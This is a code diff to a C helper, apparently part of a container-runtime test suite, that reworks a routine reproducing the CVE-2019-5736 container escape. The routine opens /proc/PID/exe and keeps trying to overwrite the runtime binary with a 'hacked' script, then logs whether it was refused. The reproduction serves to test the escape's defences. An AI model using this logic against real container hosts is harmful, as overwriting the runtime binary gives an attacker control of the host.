@@ -269,9 +269,10 @@ static int cmd_syscall(const char* nr) {
 }
 
 /* exe-attack FILE SECONDS: CVE-2019-5736 as an attacker inside a container does it. Waits
- * for FILE to name a pid, opens /proc/PID/exe (O_PATH, as the exploit does, since writing is
- * refused while the binary runs), then keeps trying to reopen it for writing until SECONDS
- * pass. Prints what happened; "written" means the runtime's binary was overwritten. */
+ * for FILE to name a pid, keeps trying to open /proc/PID/exe (O_PATH, as the exploit does:
+ * writing is refused while the binary runs), then keeps trying to reopen what it got for
+ * writing and to write it, until SECONDS pass. Prints "refused: ERRNO xN" for the failed
+ * opens, "opened: DEV:INO TARGET" for what it got, and "write: ok" if it wrote. */
 static int cmd_exe_attack(const char* file, const char* seconds) {
   time_t end = time(NULL) + atoi(seconds);
   int pid = 0;
@@ -289,32 +290,33 @@ static int cmd_exe_attack(const char* file, const char* seconds) {
   }
   char path[64];
   snprintf(path, sizeof path, "/proc/%d/exe", pid);
-  int fd = -1, err = 0;
+  int fd = -1, err = 0, refused = 0;
   while (fd < 0 && time(NULL) < end) {
     fd = open(path, O_PATH | O_CLOEXEC);
     if (fd < 0) {
       err = errno;
-      usleep(10000);
+      refused++;
+      usleep(5000);
     }
   }
-  printf("open exe: %s\n", outcome(fd, err));
-  fflush(stdout);
+  if (refused) printf("refused: %s x%d\n", outcome(-1, err), refused);
   if (fd < 0) return 0;
-  char self[64];
+  struct stat st;
+  char self[64], target[4096] = "";
   snprintf(self, sizeof self, "/proc/self/fd/%d", fd);
-  int w = -1;
-  while (w < 0 && time(NULL) < end) {
-    w = open(self, O_WRONLY | O_CLOEXEC);
-    if (w < 0) {
-      err = errno;
-      usleep(10000);
-    }
+  ssize_t n = readlink(self, target, sizeof target - 1);
+  if (n > 0) target[n] = 0;
+  fstat(fd, &st);
+  printf("opened: %u:%lu %s\n", (unsigned)st.st_dev, (unsigned long)st.st_ino, target);
+  long rc = -1;
+  while (rc < 0 && time(NULL) < end) {
+    int w = open(self, O_WRONLY | O_CLOEXEC);
+    rc = w < 0 ? -1 : write(w, "#!/bin/sh\necho hacked\n", 22);
+    err = errno;
+    if (w >= 0) close(w);
+    if (rc < 0) usleep(5000);
   }
-  if (w >= 0 && write(w, "#!/bin/sh\necho hacked\n", 22) == 22) {
-    printf("written\n");
-  } else {
-    printf("reopen for writing: %s\n", outcome(w, err));
-  }
+  printf("write: %s\n", outcome(rc, err));
   return 0;
 }
 
